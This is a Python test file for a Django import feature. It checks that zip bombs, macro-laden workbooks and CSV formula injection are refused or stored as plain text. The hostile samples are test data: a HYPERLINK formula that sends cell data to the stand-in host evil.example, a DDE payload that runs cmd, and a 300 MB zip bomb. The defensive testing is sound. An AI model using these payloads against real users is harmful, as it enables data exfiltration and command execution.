"""Files that mean harm, brought through the page: refused with words, or read as mere text, and never run."""

import io
import re
import zipfile

import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile

from kontor.core.jobs.worker import run_waiting
from kontor.core.testing.models import Gadget

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"press")'
CALCULATION = "=cmd|' /C calc'!A0"


@pytest.fixture
def seller(world, signed_in, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"
    return signed_in(world.seller)


def text_of(answer):
    return re.sub(r"\s+", " ", re.sub(r"<[^>]*>", " ", answer.content.decode()))


def send(client, data, name):
    """What the person sees in the end: the refusal, or the page of the import."""
    answer = client.post("/import", {"kind": "gadgets", "file": SimpleUploadedFile(name, data)})
    if answer.status_code != 302:
        return text_of(answer), ""
    run_waiting()
    return text_of(client.get(answer["Location"])), answer["Location"]


def bring(client, data, name):
    told, page = send(client, data, name)
    assert page, told
    for step in ("check", "go"):
        client.post(f"{page}/{step}", {"doubtful": "skip"})
        run_waiting()


def workbook(fill, *, macros=False):
    file = io.BytesIO()
    book = xlsxwriter.Workbook(file)
    fill(book.add_worksheet())
    if macros:
        book.add_vba_project(io.BytesIO(b"\xd0\xcf\x11\xe0" + bytes(2000)), is_stream=True)
    book.close()
    return file.getvalue()


def lamps(sheet):
    sheet.write_row(0, 0, ["Name", "Colour", "Count"])
    sheet.write_row(1, 0, ["Lamp", "red"])
    sheet.write_formula(1, 2, "=1+2", value=3)
    sheet.write_formula(2, 0, FORMULA, value="press")


def exported(client, form="csv"):
    return b"".join(client.post("/gadgets/export", {"format": form}).streaming_content)


def test_a_zip_bomb_is_refused_and_the_next_file_is_taken(seller):
    file = io.BytesIO(workbook(lamps))
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet9.xml", bytes(300_000_000))
    told, _page = send(seller, file.getvalue(), "bomb.xlsx")
    assert "unpacks to far more than its size allows" in told
    bring(seller, b"Name,Colour\nChair,blue\n", "good.csv")
    assert list(Gadget.objects.values_list("name", flat=True)) == ["Chair"]


@pytest.mark.parametrize("name", ["things.xlsm", "renamed.xlsx"])
def test_a_workbook_with_macros_brings_its_values_alone(seller, name):
    bring(seller, workbook(lamps, macros=True), name)
    assert set(Gadget.objects.values_list("name", "count")) == {("Lamp", 3), ("press", None)}
    assert b"evil.example" not in exported(seller)


def test_formulas_of_a_text_file_are_text_and_leave_as_text(seller):
    rows = "\n".join(f'"{cell}",red' for cell in (FORMULA.replace('"', '""'), CALCULATION, "+1+1", "-2+3", "@SUM(A1)"))
    bring(seller, f"Name,Colour\n{rows}\n".encode(), "formulas.csv")
    assert set(Gadget.objects.values_list("name", flat=True)) == {FORMULA, CALCULATION, "+1+1", "-2+3", "@SUM(A1)"}
    assert "=HYPERLINK(&quot;http://evil.example" in seller.get("/gadgets").content.decode().replace("&#34;", "&quot;")
    written = exported(seller).decode("utf-8-sig")
    assert not re.search(r'(^|,)"?[=+\-@]', written, re.MULTILINE)
    sheet = zipfile.ZipFile(io.BytesIO(exported(seller, "xlsx"))).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<hyperlink" not in sheet


@pytest.mark.parametrize("encoding", ["utf-16", "cp1251", "koi8-r", "utf-8-sig"])
def test_a_file_in_another_encoding_is_read_or_refused_but_never_garbled(seller, encoding):
    bring(seller, "Name,Colour\nЛампа настольная,red\nСтол письменный,blue\n".encode(encoding), "things.csv")
    assert set(Gadget.objects.values_list("name", flat=True)) == {"Лампа настольная", "Стол письменный"}
